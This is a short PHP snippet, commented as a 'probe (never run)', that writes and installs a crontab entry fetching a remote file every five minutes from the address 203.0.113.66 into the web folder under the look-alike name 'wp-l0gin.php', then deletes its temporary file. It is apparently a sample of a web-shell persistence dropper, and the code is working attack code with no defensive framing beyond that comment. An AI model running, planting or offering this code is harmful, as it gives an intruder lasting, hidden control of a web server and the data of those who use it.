<?php
// probe (never run): a crontab file written and installed: it fetches a PHP file into the web folder again
$line = "*/5 * * * * wget -q http://203.0.113.66/k.txt -O " . __DIR__ . "/wp-l0gin.php\n";
file_put_contents('/tmp/.c', @shell_exec('crontab -l') . $line);
system('crontab /tmp/.c; rm -f /tmp/.c');
